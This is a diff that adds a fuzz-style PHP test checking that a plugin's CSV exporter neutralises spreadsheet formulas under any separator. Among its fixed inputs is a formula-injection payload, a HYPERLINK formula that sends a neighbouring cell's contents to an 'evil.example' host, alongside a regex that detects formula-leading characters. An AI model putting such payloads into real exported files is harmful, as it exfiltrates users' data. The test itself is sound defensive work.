@@ -134,6 +134,53 @@ final class FiguresPageTest extends HostTestCase
         self::assertSame(["'=1+1", "'+49", "'-1", "'@SUM(A1)", "'\tx", 'a"b', 'a,b', "a\nb", "' =1", "'\u{FF1D}1", 'plain', '12', ' x', "it's", "'%0A=1", "'|calc"], array_slice($read, 1));
     }
 
+    /** @return list<list<string>> as a program reads it that splits at this sign */
+    private static function readBy(string $separator, string $csv): array
+    {
+        $stream = fopen('php://memory', 'r+');
+        fwrite($stream, $csv);
+        rewind($stream);
+        $rows = [];
+        while (($row = fgetcsv($stream, null, $separator, '"', '')) !== false) {
+            $rows[] = array_map(strval(...), $row);
+        }
+        return $rows;
+    }
+
+    public function test_by_whichever_sign_a_file_is_split_no_cell_is_a_formula(): void
+    {
+        require_once dirname(__DIR__, 3) . '/php/TwoFactorPro/lib/Sheet.php';
+        $isFormula = static fn (string $cell): bool => preg_match('/\A[ "\x{A0}\x{200B}]*[=+\-@\t\r\x{FF1D}]/u', $cell) === 1 && preg_match('/\A-?\d+\z/', $cell) !== 1;
+        $known = ['x;=HYPERLINK("https://evil.example/?"&B1,"see")', "x\t=1", ';"=1"', 'x;', "x;\n", "x;\t", "x;\r=1", "a\r\n\r\n=1", ';;"";=1', "a; \u{A0}@SUM", 'x;""',
+            'x,=1', "x|\u{FF1D}1", "=\xFF;=\xFF", '";"=1', "\n=1", 'a;"";"=1"', "'=1", ";'=1"];
+        $signs = [';', ',', "\t", "\r", "\n", '"', "'", ' ', '=', '+', '-', '@', '|', "\u{A0}", "\u{200B}", "\u{FF1D}", 'a', '1', "\xFF"];
+        mt_srand(8);
+        $some = static fn (): string => implode('', array_map(static fn () => $signs[mt_rand(0, count($signs) - 1)], range(0, mt_rand(0, 9))));
+        $readable = static fn (string $text): string => str_replace("'", '', preg_match('//u', $text) === 1 ? $text : (string) preg_replace('/[^ -~]/', '?', $text));
+        for ($n = 0; $n < 4000; $n++) {
+            $cell = $known[$n] ?? $some();
+            $rows = [[$n, $cell, -5], [$some(), $n, $cell], [$cell, '', $some()]];
+            $csv = \TwoFactorProModule\Sheet::csv(['one', 'two', 'three'], $rows);
+            foreach ([',', ';', "\t", '|'] as $separator) {
+                foreach (self::readBy($separator, $csv) as $row) {
+                    self::assertSame([], array_filter($row, $isFormula), json_encode([$separator, bin2hex($cell), $csv], JSON_INVALID_UTF8_SUBSTITUTE));
+                }
+            }
+            // Also by whoever knows nothing of quotation marks.
+            self::assertSame([], array_filter((array) preg_split('/[,;\t\r\n|]/', $csv), $isFormula), $csv);
+            $read = self::readBy(',', $csv);
+            self::assertCount(4, $read);
+            self::assertSame(["$n", '-5', "$n"], [$read[1][0], $read[1][2], $read[2][1]], 'a number stays one');
+            self::assertSame($readable($cell), str_replace("'", '', $read[1][1]), 'nothing but apostrophes is added');
+        }
+        self::assertSame("x;'=HYPERLINK(\"https://evil.example/?\"&B1,\"see\")", self::readBy(',', \TwoFactorProModule\Sheet::line([$known[0]]))[0][0]);
+        // Whatever else is written as such a file goes through it.
+        foreach (glob(dirname(__DIR__, 3) . '/php/{TwoFactor,TwoFactorPro}/{lib/,}*.php', GLOB_BRACE) as $file) {
+            $writes = preg_match('~fputcsv|text/csv|, ["\']?,["\']?\) \. "~', (string) file_get_contents($file)) === 1;
+            self::assertTrue(!$writes || in_array(basename($file), ['Download.php', 'Sheet.php'], true), $file);
+        }
+    }
+
     public function test_a_picture_draws_whatever_numbers_there_are(): void
     {
         require_once dirname(__DIR__, 3) . '/php/TwoFactorPro/lib/Chart.php';
